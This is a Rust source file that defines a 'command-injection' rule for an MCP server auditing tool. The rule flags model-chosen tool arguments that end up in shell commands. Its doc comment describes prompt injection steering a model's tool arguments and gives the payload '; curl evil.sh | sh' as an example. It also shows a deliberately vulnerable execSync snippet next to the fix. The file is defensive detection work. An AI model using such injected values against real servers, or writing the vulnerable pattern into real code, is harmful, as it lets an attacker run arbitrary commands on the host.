use crate::code::{report, CodeCx};
use crate::{declare_rule, Finding, Rule};
use skillaudit_model::code::ir::SinkKind;

declare_rule! {
    /// ## What it does
    /// Flags model input built into a command line that a shell runs: a
    /// tool argument interpolated or concatenated into the text given to
    /// `exec`/`execSync` (also promisified), `spawn`/`execFile` with
    /// `shell: true`, Python `subprocess.*(…, shell=True)`, `os.system`,
    /// `os.popen`, `asyncio.create_subprocess_shell`, or Go
    /// `exec.Command("sh", "-c", …)`.
    ///
    /// The flow is traced from the MCP handler's parameter through
    /// assignments, string building and calls into the repository's own
    /// functions, across files; the finding lists every step. A shell sink
    /// fed by a parameter of a function that no handler is traced to is
    /// reported at confidence medium.
    ///
    /// ## Why is this bad?
    /// The model chooses the argument, and a prompt injection chooses the
    /// model's words: `; curl evil.sh | sh` or `$(…)` in the argument runs
    /// anything the server's user can run. This is how CVE-2025-53355
    /// (mcp-server-kubernetes) and CVE-2025-53967 (Figma-Context-MCP)
    /// worked.
    ///
    /// Not flagged: a value quoted for the shell (`shell-quote`'s `quote`,
    /// `shlex.quote`), checked against an allow-list or an enum, or made a
    /// number (`parseInt`, `int()`); a tool whose whole command is the
    /// model's (that is `shell-tool`).
    ///
    /// ## Example
    /// ```ts
    /// server.tool("git_log", { repo: z.string() }, async ({ repo }) => {
    ///   const out = execSync(`git -C ${repo} log --oneline`).toString();
    ///   return { content: [{ type: "text", text: out }] };
    /// });
    /// ```
    ///
    /// ## Fix
    /// Run the program without a shell and pass the value as one argument
    /// after `--`: `execFile("git", ["-C", repo, "log", "--oneline"])`,
    /// `subprocess.run(["git", "-C", repo, "log"])`,
    /// `exec.Command("git", "-C", repo, "log")`. If a shell is unavoidable,
    /// quote the value (`shlex.quote`, `shell-quote`) and validate it
    /// against what the tool expects.
    pub struct CommandInjection {
        id: "command-injection",
        severity: Critical,
        target: Code,
        summary: "model input built into a command line run by a shell",
    }
}

impl Rule for CommandInjection {
    fn check_code(&self, cx: &CodeCx<'_>, out: &mut Vec<Finding>) {
        let flows = cx
            .flows()
            .filter(|f| f.sink.kind == SinkKind::Shell && !f.attrs.whole)
            .collect();
        report(
            cx,
            &Self::META,
            flows,
            |who, f| {
                format!(
                    "{who} into a shell command run by {}: shell syntax in it runs as commands",
                    f.sink.what
                )
            },
            "run the program without a shell, with the value as one argument after `--`; or quote it (shlex.quote, shell-quote) and validate it",
            out,
        );
    }
}
